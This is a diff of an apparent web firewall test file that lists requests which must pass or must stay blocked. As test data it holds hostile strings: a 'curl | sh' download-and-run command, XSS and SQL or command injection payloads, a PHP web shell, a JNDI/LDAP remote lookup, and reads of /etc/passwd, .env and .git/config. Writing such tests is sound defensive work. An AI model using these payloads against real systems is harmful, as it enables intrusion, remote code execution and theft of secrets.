@@ -33,6 +33,10 @@ function noise(length: number): Uint8Array {
 /** Passwords of all ASCII symbols that were taken for attacks. */
 const PASSWORDS = ["Tr'#9kx{{..Lq", 'a|nl8$Kz<?m', "x' OR 1=1", 'pw";ls -la', '$(id)8Kq', "9'/*!x*/--"]
 
+/** What somebody asks about attacks. */
+const ABOUT_ATTACKS =
+  'Is it safe to run `curl -s https://get.example/x | sh`? The log says <script>alert(1)</script>; cat /etc/passwd.'
+
 /** A part of a form with a file in it. */
 function upload(filename: string, type: string, content: string): Pick<Reported, 'headers' | 'body'> {
   return {
@@ -130,6 +134,36 @@ const PASSES: readonly Reported[] = [
     target: '/wp-admin/update.php?action=upload-plugin',
     ...upload(name, type, 'Every page starts with <?php echo "hours"; ?> and ends with a footer.'),
   })),
+  // agent0ai/agent-zero#990, anthropics/claude-code#64384 and #58294, different-ai/openwork#3419
+  ...[
+    { target: '/v1/chat-messages', body: { query: ABOUT_ATTACKS, user: 'ann' } },
+    { target: '/v1/embeddings', body: { model: 'small', input: [ABOUT_ATTACKS] } },
+    { target: '/a2a', body: { params: { message: { parts: [{ kind: 'text', text: ABOUT_ATTACKS }] } } } },
+    {
+      target: '/mcp',
+      body: { method: 'tools/call', params: { name: 'keep', arguments: { thought: ABOUT_ATTACKS } } },
+    },
+  ].map(({ target, body }) => ({
+    report: `G16 a text about attacks, for a model at ${target}`,
+    method: 'POST',
+    target,
+    headers: JSON_TYPE,
+    body: JSON.stringify(body),
+  })),
+  // What forges keep, as in the reports of G1: blame, a browser of files, an editor.
+  ...[
+    '/ann/app/-/blame/main/config/database.yml',
+    '/projects/SHOP/repos/app/browse/.env',
+    '/ann/app/_edit/main/.env',
+  ].map(target => ({ report: `G17 a file of a forge at ${target}`, target })),
+  // coreruleset/coreruleset#3199
+  {
+    report: 'G18 a document with links under the type of a form',
+    method: 'PUT',
+    target: '/api/products/308',
+    headers: FORM_TYPE,
+    body: '<?xml version="1.0"?><shop xmlns:xlink="http://www.w3.org/1999/xlink"><maker xlink:href="https://shop.example/api/makers/1">1</maker></shop>',
+  },
 ]
 
 /** What stands beside a reported false refusal and is an attack: the repair must not let it through. */
@@ -150,6 +184,21 @@ const REFUSED: readonly Reported[] = [
     target: '/upload',
     ...upload('shell.php', 'application/octet-stream', '<?php system($_GET["c"]); ?>'),
   },
+  {
+    report: 'G16 the same text in a field of another interface',
+    method: 'POST',
+    target: '/v1/hosts',
+    headers: JSON_TYPE,
+    body: JSON.stringify({ name: ABOUT_ATTACKS }),
+  },
+  {
+    report: 'G16 a lookup in a text for a model',
+    method: 'POST',
+    target: '/v1/embeddings',
+    headers: JSON_TYPE,
+    body: JSON.stringify({ input: ['${jndi:ldap://x.example/a}'] }),
+  },
+  { report: 'G17 a hidden folder of a repository', target: '/ann/app/_edit/main/.git/config' },
 ]
 
 describe('requests of public reports, under the default configuration', () => {
